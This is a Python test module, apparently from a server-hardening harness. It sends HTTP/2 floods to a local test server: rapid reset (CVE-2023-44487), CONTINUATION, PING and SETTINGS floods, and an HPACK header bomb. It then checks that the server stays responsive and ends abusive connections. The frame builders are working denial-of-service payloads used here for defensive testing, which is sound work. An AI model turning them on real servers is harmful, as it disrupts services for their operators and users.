"""Attack: floods of HTTP/2 frames: rapid reset (CVE-2023-44487), CONTINUATION, PING and SETTINGS floods, a header bomb.

Must hold: others are served meanwhile, memory stays bounded, and the server ends a connection that only resets streams.
"""

import struct
import threading
import time

from harness.http1 import connect
from harness.http2 import CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, frame, header_block, settings

TITLE = "HTTP/2 rapid reset and other floods of frames"
TIME_LIMIT = (60, 180)
BLOCK = header_block("/v1/events?limit=500", "localhost")
CANCEL = struct.pack(">I", 8)


def rapid_reset(number):
    stream = 1 + 2 * number
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, BLOCK) + frame(RST_STREAM, 0, stream, CANCEL)


def continuation(number):
    return frame(HEADERS, END_STREAM, 1, BLOCK) if number == 0 else frame(CONTINUATION, 0, 1, b"\0\1a\1b" * 100)


def ping(_):
    return frame(PING, 0, 0, b"12345678")


def settings_flood(_):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_536))


def header_bomb(number):
    """A large header, put in the table once, named again and again with one byte each."""
    table_entry = b"\x40\x04aaaa" + b"\x7f\xe1\x1e" + b"v" * 4_000
    return frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * number, BLOCK + (table_entry if number == 0 else b"") + b"\xbe" * 10_000)


FLOODS = {
    "rapid reset": (rapid_reset, 100_000),
    "CONTINUATION flood": (continuation, 50_000),
    "PING flood": (ping, 100_000),
    "SETTINGS flood": (settings_flood, 100_000),
    "header bomb": (header_bomb, 100),
}
MUST_END = {"rapid reset", "CONTINUATION flood", "header bomb"}


def attack(arena):
    with arena.server(events=arena.pick(5_000, 100_000)) as server:
        for name, (make, count) in FLOODS.items():
            with arena.watch(server, name):
                sent, ended = flood(server, make, count, arena.pick(2, 12))
            if name in MUST_END:
                arena.check(f"{name}: the server ends the connection", f"{ended} connections ended, {sent} frames sent", ended)


def flood(server, make, count, seconds):
    """Floods for some seconds, with a new connection whenever the server ends one: (frames sent, connections it ended)."""
    deadline, frames, ended = time.monotonic() + seconds, 0, 0
    while time.monotonic() < deadline:
        sent, was_ended = flood_connection(server, make, count, deadline)
        frames, ended = frames + sent, ended + was_ended
    return frames, ended


def flood_connection(server, make, count, deadline):
    """Sends frames while a thread reads and drops the answers: (frames sent, whether the server ended the connection)."""
    ended = threading.Event()
    with connect(server.address, "127.0.0.2") as connection:
        connection.sendall(PREFACE + settings())

        def drain():
            try:
                while connection.recv(1 << 16):
                    pass
            except TimeoutError:
                return
            except OSError:
                pass
            ended.set()

        threading.Thread(target=drain, daemon=True).start()
        sent = 0
        try:
            while sent < count and time.monotonic() < deadline and not ended.is_set():
                connection.sendall(make(sent))
                sent += 1
            ended.wait(1)
        except OSError:
            ended.set()
    return sent, ended.is_set()
